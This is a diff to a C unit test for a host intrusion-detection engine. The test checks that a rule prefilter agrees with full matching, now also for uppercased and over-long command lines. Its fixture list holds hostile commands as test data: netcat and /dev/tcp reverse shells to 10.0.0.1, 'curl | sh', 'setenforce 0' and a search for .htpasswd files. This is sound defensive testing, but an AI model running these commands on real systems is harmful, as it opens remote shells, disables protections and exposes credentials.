@@ -400,9 +400,11 @@ test_prefilter_same_answers(void **state)
 					      "/usr/bin/crontab", "/usr/bin/curl", "/dev/shm/.a", "/usr/bin/python3" };
 	static const char *const cmds[] = { "nc -e /bin/sh 10.0.0.1 4444", "chmod +x /tmp/x", "base64 -d",
 					    "crontab -l", "setenforce 0", "curl -fsSL http://x | sh", "python3 -c import pty",
-					    "wget http://a/b -O /tmp/b", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1" };
+					    "wget http://a/b -O /tmp/b", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+					    "env http_proxy=http://10.0.0.1:3128 curl x", "find / -name .htpasswd" };
 	const char *dir = getenv("BW_SIGMA_DIR");
-	char def[1024], json[1024];
+	static char json[8192], longcmd[5400];
+	char def[1024];
 	struct detect_ruleset *rs = NULL;
 	struct detect_load_report rep = { 0 };
 	struct detect_json_event *je = NULL;
@@ -417,7 +419,20 @@ test_prefilter_same_answers(void **state)
 	assert_int_equal(detect_ruleset_load_with_builtin(dir, &rs, &rep, &err), 0);
 	assert_int_equal(detect_json_event_new(&je, &err), 0);
 	for (i = 0; i < 4000; i++) {
-		const char *img = images[i % 13], *cmd = cmds[(i / 13) % 9], *type = types[(i / 7) % 7];
+		const char *img = images[i % 13], *cmd = cmds[(i / 13) % 11], *type = types[(i / 7) % 7];
+		static char upper[256];
+		if (i % 4 == 1) {	/* rules match case-insensitively: so must the prefilter's keys */
+			size_t c;
+			for (c = 0; cmd[c] != '\0' && c + 1 < sizeof upper; c++)
+				upper[c] = (char)(cmd[c] >= 'a' && cmd[c] <= 'z' ? cmd[c] - 32 : cmd[c]);
+			upper[c] = '\0';
+			cmd = upper;
+		}
+		if (i % 17 == 0) {	/* a command line longer than the prefilter reads (every rule of its table) */
+			memset(longcmd, 'a', 5000);
+			snprintf(longcmd + 5000, sizeof longcmd - 5000, " %s", cmd);
+			cmd = longcmd;
+		}
 		enum detect_source src = i % 3 == 0 ? DETECT_SRC_AUDITD : i % 3 == 1 ? DETECT_SRC_PROCESS_CREATION
 										   : DETECT_SRC_BULWARK;
 		struct hits fast = { .n = 0 }, slow = { .n = 0 };
